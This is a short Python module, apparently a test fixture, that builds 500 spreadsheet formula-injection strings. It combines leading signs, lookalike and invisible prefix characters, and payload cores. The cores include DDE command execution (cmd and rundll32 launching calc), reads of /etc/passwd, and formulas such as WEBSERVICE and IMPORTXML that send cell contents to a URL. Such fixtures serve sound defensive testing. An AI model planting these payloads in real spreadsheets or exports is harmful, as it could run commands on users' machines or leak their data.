"""Texts that want to be formulas when a spreadsheet opens them, of every kind that is known from the field."""

from __future__ import annotations

from itertools import cycle, islice, product

MANY = 500

_CORES = (
    "1+1", "cmd|'/C calc'!A0", "cmd|' /C notepad'!'A1'", "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    'HYPERLINK("http://127.0.0.1/?x="&A1,"点这里")', 'IMPORTXML(CONCAT("http://127.0.0.1/?",A1:A9),"//a")',
    'IMPORTDATA("http://127.0.0.1/a.csv")', 'IMPORTFEED("http://127.0.0.1/")',
    'IMPORTHTML("http://127.0.0.1/","table",1)', 'IMPORTRANGE("https://127.0.0.1/","A1")',
    'IMAGE("http://127.0.0.1/a.png")', 'WEBSERVICE("http://127.0.0.1/?"&A1)', 'FILTERXML("<a/>","//a")',
    'DDE("soffice";"/etc/passwd";"A1")', "'file:///etc/passwd'#$passwd.A1", 'RTD("prog",,"x")',
    'CALL("Kernel32","WinExec","JCJ","calc",0)', 'REGISTER.ID("a","b")', 'EXEC("calc")', "SUM(A1:A9)", "NOW()",
    'INDIRECT("A1")', "rundll32|'URL.dll,OpenURL calc.exe'!A", 'SUM(1,1)*cmd|"/C calc"!A0', "A1",
    "2+5+cmd|' /C calc'!A0", "{SUM(A1:A9)}", "1/0", "#REF!", "@SUM(1)",
)  # fmt: skip
_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "=+", "=-", "==", "+=", "-@")
_BEFORE = (
    "", " ", "  ", "\t", "\r", "\n", "\r\n", '"', "'", "''", "\u00a0", "\u3000", "\ufeff", "\u200b", "\u200e", "\u202e",
    "\u2060", "\u00ad", "“", ";", ",", "\x00", "\x1f", '";', "\n\n",
)  # fmt: skip


def payloads() -> list[str]:
    """Five hundred different ones: each beginning with each sign, and cores in turn."""
    cores = cycle(_CORES)
    found = dict.fromkeys(f"{before}{sign}{next(cores)}" for before, sign in product(_BEFORE, _SIGNS))
    found |= dict.fromkeys(f"{sign}{core}" for sign, core in product(("=", "+", "-", "@", "＝"), _CORES))
    found |= dict.fromkeys(f"{core}" for core in _CORES)
    return list(islice(found, MANY))
